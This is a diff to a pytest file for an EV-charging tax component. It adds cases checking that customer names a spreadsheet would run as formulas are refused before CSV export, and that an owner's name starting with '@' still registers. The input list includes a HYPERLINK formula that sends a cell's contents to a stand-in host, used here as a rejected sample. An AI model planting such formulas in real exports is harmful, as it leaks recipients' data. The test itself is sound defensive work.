@@ -24,6 +24,7 @@ from custom_components.qr_charging.tax import (
     parse_recipient,
     parse_settings,
     rate_text,
+    settings_of,
     split,
 )
 from tests.integration.tax_helpers import OWNER_GSTIN, tax_options
@@ -125,7 +126,14 @@ def test_a_name_without_a_letter_or_digit_names_no_one(name: str) -> None:
 
 @pytest.mark.parametrize(
     "typed",
-    ['=HYPERLINK("http://x.example/?"&A1,"Acme")', "+91 Acme", "-1+1", "@SUM(A1)", "\t=1+1"],
+    [
+        '=HYPERLINK("http://x.example/?"&A1,"Acme")',
+        "+91 Acme",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\u200d=1+1",  # a joiner (allowed for Devanagari) hides nothing
+    ],
 )
 def test_a_value_a_spreadsheet_would_run_as_a_formula_is_refused(typed: str) -> None:
     """The export's CSV files carry the name and address to the owner's spreadsheet."""
@@ -134,6 +142,14 @@ def test_a_value_a_spreadsheet_would_run_as_a_formula_is_refused(typed: str) -> 
             parse_recipient("27AAPFU0939F1ZV", *args)
         assert (err.value.field, err.value.key) == (field, "not_printable")
     assert parse_recipient("27AAPFU0939F1ZV", "Acme = Fleet", "Pune-1").name == "Acme = Fleet"
+
+
+def test_the_owners_own_name_may_start_with_a_mark_it_never_reaches_the_csv() -> None:
+    """Only the customer's name and address go to the export's CSV files: an owner's stored
+    "@Home EV Charging" keeps the owner registered with their prefix."""
+    options = {"tax": {**tax_options(prefix="ABC"), "legal_name": "@Home EV Charging"}}
+    settings = settings_of(options)
+    assert (settings.registered, settings.prefix) == (True, "ABC")
 
 
 def test_a_devanagari_name_keeps_its_joiners() -> None:
